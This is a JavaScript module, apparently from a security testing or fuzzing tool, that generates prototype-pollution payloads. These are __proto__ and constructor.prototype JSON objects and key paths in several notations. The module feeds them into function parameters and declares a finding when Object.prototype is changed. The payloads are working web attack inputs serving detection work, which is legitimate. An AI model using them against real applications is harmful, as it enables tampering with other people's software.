// Objects that reach Object.prototype of the program's realm, seen by a property that every object then has.
'use strict';

const { Family, Payload, proven } = require('./family.cjs');

class Prototype extends Family {
  canShrink = false;
  isPadded = false;
  wanted = ['object', 'text'];
  nothing = 'no parameter carries an object or a path from outside';

  *payloads(site) {
    const { marker } = this.hunt;
    const secret = 'secret-value';
    for (const json of [
      `{"__proto__":{"${marker}":"${secret}"}}`,
      `{"constructor":{"prototype":{"${marker}":"${secret}"}}}`,
      `{"a":{"__proto__":{"${marker}":"${secret}"}}}`,
    ]) {
      if (site.isWhole || site.role !== 'text' || site.shape !== 'text')
        yield new Payload(JSON.parse(json), { text: json, code: `JSON.parse('${this.hunt.reveal(json)}')` });
      yield new Payload(json);
    }
    for (const dot of ['.', '/', ':', '|', '->']) {
      for (const path of [
        ['__proto__', marker],
        ['constructor', 'prototype', marker],
        ['a', '__proto__', marker],
      ])
        yield new Payload(path.join(dot));
    }
    yield new Payload(`__proto__[${marker}]`);
    yield new Payload(`__proto__[${marker}]=${secret}`);
    yield new Payload(`__proto__.${marker}=${secret}`);
    yield new Payload(['__proto__', marker], { text: `["__proto__","${marker}"]` });
    yield new Payload('__proto__', { isKey: true });
  }

  /** What is set there: every other text and object. */
  extra(site, payload) {
    const { plan, secret } = this.hunt;
    if (site?.kind !== 'parameter' || payload === undefined) return {};
    const { args } = plan.shot(site, payload.value);
    const isOther = (one, index) =>
      index !== site.index &&
      'json' in one &&
      !['number', 'flag', 'id'].includes(plan.parameters[index].role);
    const value = payload.more.isKey
      ? JSON.stringify({ [this.hunt.marker]: secret })
      : JSON.stringify(`${secret}`);
    const isLast = (index) => index > site.index;
    return {
      args: args.map((one, index) =>
        isOther(one, index) && isLast(index) && plan.parameters[index].shape === 'text'
          ? { json: value }
          : one,
      ),
      sets: true,
    };
  }

  sites() {
    return super.sites().filter(({ role }) => role !== 'number');
  }

  judge({ seen }) {
    return seen.isPolluted
      ? proven('every object has the property "pwned" then: Object.prototype was changed')
      : undefined;
  }
}

module.exports = { Prototype };
